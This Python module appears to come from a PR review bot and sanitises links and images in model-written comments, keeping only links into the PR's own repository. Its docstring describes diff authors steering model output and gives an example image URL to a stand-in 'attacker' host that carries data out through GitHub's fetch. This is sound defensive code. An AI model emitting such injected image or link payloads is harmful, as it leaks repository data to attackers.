"""Links and images in text we post: shown as text unless they point into the PR's own repository.

Model text is steered by whoever wrote the diff. An image (`![](https://attacker/?q=...)`) makes GitHub
fetch a URL that can carry data out; a link lends our voice to wherever it points. So, outside code:
- `[` becomes the entity `&lbrack;`, which CommonMark shows as a bracket but never reads as the start of a
  link, image, footnote or reference definition (a backslash escape could be undone by one before it);
- an inline link `[label](url)` into the PR's own repository on the configured GitHub is kept; any
  other becomes `label (url)` with the URL made inert;
- a bare URL (which GitHub would autolink) is kept only into the same repository, else made inert: a
  zero-width space after its scheme or `www` stops autolinking and still reads as the URL. (Code spans
  would do too, but their backticks merge with backticks around them and can unbalance.)
Patterns run on RE2 (linear time): this text is attacker-chosen.
"""

from __future__ import annotations

from dataclasses import dataclass
from urllib.parse import urlsplit

from app.linear_regex import LinearMatch, compile_linear

_TOKENS = compile_linear(
    r"(?P<link>\[(?P<label>[^\[\]\n]{0,500})\]\((?P<dest>[^\s()<>]+)\))"
    r"|(?P<url>(?:(?:https?|ftp)://|www\.)[^\s<>]*)",
    ignore_case=True,
)
_TRAILING_PUNCTUATION = ".,:;!?'\")*_~"
_ZWSP = "\u200b"
_WWW = compile_linear(r"www\.", ignore_case=True)


@dataclass(frozen=True)
class LinkPolicy:
    """Where a posted link may point: under `repo_url` (e.g. https://github.com/o/r), or nowhere."""

    repo_url: str = ""

    def allows(self, url: str) -> bool:
        """Tell whether `url` points into the repository (same scheme and host, path below it)."""
        if not self.repo_url:
            return False
        try:
            own, other = urlsplit(self.repo_url.rstrip("/")), urlsplit(url)
        except ValueError:
            return False
        if (other.scheme.lower(), other.netloc.lower()) != (own.scheme.lower(), own.netloc.lower()):
            return False
        path = other.path
        if "\\" in url or any(part in {".", ".."} for part in path.split("/")) or "%2e" in path.lower():
            return False  # dot segments would climb out of the repository once a browser normalises them
        base = own.path.lower()
        return path.lower() == base or path.lower().startswith(base + "/")


NO_LINKS = LinkPolicy()


def repo_web_url(api_url: str, full_name: str) -> str:
    """Return the web URL of `full_name` for a REST base (api.github.com or GHES `https://HOST/api/v3`)."""
    parts = urlsplit(api_url.rstrip("/"))
    host = parts.netloc
    if host.lower() == "api.github.com":
        host = "github.com"
    path = parts.path[: -len("/api/v3")] if parts.path.endswith("/api/v3") else ""
    return f"{parts.scheme}://{host}{path}/{full_name}"


def _inert(url: str, table: dict[int, str]) -> str:
    """Return `url` escaped and broken wherever GitHub's autolinker could start reading a link."""
    text = url.translate(table).replace("://", _ZWSP + "://")  # every one: `https://https://x`
    return _WWW.sub(lambda match: (match.group(0) or "")[:3] + _ZWSP + ".", text)


def neutralise_links(text: str, table: dict[int, str], links: LinkPolicy = NO_LINKS) -> str:
    """Escape a run of inline text (no code spans in it) with `table`, handling links as above."""
    table = {**table, ord("["): "&lbrack;"}
    out: list[str] = []
    pos = 0
    for match in _TOKENS.finditer(text):
        start, end = match.span()
        out.append(text[pos:start].translate(table))
        out.append(_token(match, table, links))
        pos = end
    out.append(text[pos:].translate(table))
    return "".join(out)


def _token(match: LinearMatch, table: dict[int, str], links: LinkPolicy) -> str:
    whole = match.group(0) or ""
    dest = match.group("dest")
    if dest is not None:
        label = (match.group("label") or "").translate(table)
        if links.allows(dest):
            return f"[{label}]({dest})"
        return f"{label} ({_inert(dest, table)})"
    url = whole.rstrip(_TRAILING_PUNCTUATION)
    tail = whole[len(url) :].translate(table)
    return (url if links.allows(url) else _inert(url, table)) + tail
